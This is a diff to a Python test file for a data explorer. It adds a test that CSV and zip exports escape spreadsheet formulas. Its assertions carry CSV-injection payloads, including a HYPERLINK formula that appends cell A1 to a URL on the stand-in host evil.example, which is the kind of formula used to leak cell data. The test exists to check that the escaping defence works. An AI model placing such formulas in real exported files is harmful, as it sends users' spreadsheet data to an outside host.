@@ -131,6 +131,20 @@ def test_excel_export_holds_the_view_in_words_the_codebook_and_the_filters(tmp_p
 
 
 def test_excel_keeps_text_that_looks_like_a_formula_as_text():
-    from explorer.excel import safe_cell
+    from explorer.datafiles import safe_cell
     assert safe_cell('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
     assert safe_cell("Fixture Act § 1") == "Fixture Act § 1" and safe_cell(45300) == 45300
+
+
+def test_csv_and_zip_keep_formula_like_text_as_text(tmp_path, pathways):
+    """de-seasonal's notes in the fixtures hold a live-looking formula (OWASP CSV injection)."""
+    import csv as csv_module
+
+    from explorer.cli import main
+    from tests.conftest import FIXTURES
+    out = tmp_path / "x.csv"
+    assert main(["--data", str(FIXTURES), "export", "--out", str(out), "--member-state", "DE"]) == 0
+    notes = {row["id"]: row["notes"] for row in csv_module.DictReader(out.open(encoding="utf-8"))}
+    assert notes["de-seasonal"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+    zipped = zipfile.ZipFile(io.BytesIO(data_package_zip(pathways, FilterSet(), "http://x/")))
+    assert b"'=HYPERLINK" in zipped.read("pathways.csv") and b"CSV injection" in zipped.read("README.md")
